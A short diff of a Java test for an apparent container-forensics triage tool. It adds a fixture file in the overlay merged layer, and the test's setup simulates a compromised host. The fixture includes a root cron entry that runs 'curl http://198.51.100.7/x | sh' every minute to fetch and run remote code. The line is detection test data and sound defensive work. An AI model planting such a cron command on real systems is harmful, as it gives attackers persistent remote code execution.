@@ -61,6 +61,9 @@ final class ContainerTriageTest {
         String upper = DOCKER + "/overlay2/a2/diff";
         host.put(upper + "/usr/bin/netd", Map.of("elf", Map.of()));
         host.put(upper + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
+        host.put(
+                DOCKER + "/overlay2/a2/merged/tmp/.x/run.sh",
+                Map.of("text", SCRIPT, "mode", "0755"));
         host.put(upper + "/etc/cron.d/x", "* * * * * root curl http://198.51.100.7/x | sh\n");
         var findings = triage(host);
         assertThat(findings)
